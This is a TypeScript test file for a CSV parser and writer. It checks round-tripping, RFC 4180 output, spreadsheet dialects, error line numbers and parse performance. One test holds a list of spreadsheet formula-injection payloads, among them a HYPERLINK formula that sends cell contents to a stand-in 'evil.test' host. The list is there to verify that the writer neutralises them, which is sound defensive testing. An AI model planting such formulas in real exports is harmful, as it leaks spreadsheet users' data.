import assert from 'node:assert/strict'
import { test } from 'node:test'
import { parseCsv, writeCsv } from './csv'

const cells = (text: string) => parseCsv(text).map((row) => row.cells)

test('what is written can be read again, cell for cell', () => {
  const rows = [
    ['task', 'notes'],
    ['Say "hello", then go', 'one\r\ntwo\nthree'],
    ['', ' spaces '],
    ['Smørrebrød 🥪', "it's"],
  ]
  assert.deepEqual(cells(writeCsv(rows)), rows)
})

test('the file begins with a BOM and its lines end as RFC 4180 says', () => {
  assert.equal(writeCsv([['a', 'b"c']]), '\uFEFF"a","b""c"\r\n')
})

test('no cell is a formula for a spreadsheet, and each is itself again when it is read', () => {
  const attacks = [
    '=HYPERLINK("https://evil.test?"&A1)',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1',
    "'=1",
    "''@x",
  ]
  const written = writeCsv([attacks])
  for (const cell of written.slice(2, -3).split('","')) assert.match(cell, /^'/)
  assert.deepEqual(cells(written), [attacks])
})

test('what spreadsheets write is read: no quotes, semicolons, tabs, other line ends', () => {
  const expected = [
    ['task', 'done'],
    ['Milk, oat', 'x'],
    ['Bread', ''],
  ]
  assert.deepEqual(cells('task,done\n"Milk, oat",x\nBread,'), expected)
  assert.deepEqual(cells('task;done\r\nMilk, oat;x\r\n\r\nBread;\r\n'), expected)
  assert.deepEqual(cells('\uFEFFtask\tdone\rMilk, oat\tx\rBread\t'), expected)
})

test('an error names the line, counted over cells of several lines', () => {
  assert.throws(() => parseCsv('a,b\n"1\n2",3\n"4'), { message: 'Line 4: a quote is not closed.' })
  assert.throws(() => parseCsv('a,b\n"1"2,3'), {
    message: 'Line 2: there is text after a closing quote.',
  })
  assert.deepEqual(
    parseCsv('a\n"1\n2"\n\n3').map(({ line }) => line),
    [1, 2, 5],
  )
})

test('an empty file has no rows', () => {
  for (const text of ['', '\uFEFF', '\n\n']) assert.deepEqual(parseCsv(text), [])
})

test('a file of quotes is read in linear time', () => {
  const start = performance.now()
  parseCsv(`"${'""'.repeat(1_000_000)}"`)
  assert.throws(() => parseCsv('"'.repeat(1_000_001)))
  assert.ok(performance.now() - start < 3_000)
})
